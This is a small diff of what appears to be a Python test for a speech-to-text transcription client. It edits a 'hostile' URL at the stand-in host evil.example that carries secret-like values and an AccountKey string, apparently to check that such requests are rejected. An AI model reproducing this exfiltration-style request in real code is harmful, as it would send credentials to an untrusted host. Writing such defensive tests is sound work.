@@ -98,7 +98,7 @@ def lived(secret: Whole, marks: Marks) -> Whole:
     secret.speech.force(odd, 400, times=2, body=body)
     query = f"api-version=2025-10-15&subscription-key={marks.enqueued}"
     secret.enqueue(f"{endpoint}/speechtotext/transcriptions/{good}?{query}", failed, expired, broken, odd)
-    hostile = f"https://evil.example/speechtotext/transcriptions/{good}?{'sig'}={marks.rejected_url}"
+    hostile = f"https://evil.example/speechtotext/models/{good}?{'sig'}={marks.rejected_url}"
     secret.enqueue(hostile, f'{{"id": "{good}", "secret": "{marks.rejected_value}"}}', f"AccountKey={marks.poison}")
     for job in (good, failed, expired, broken, odd):
         secret.ended(job)
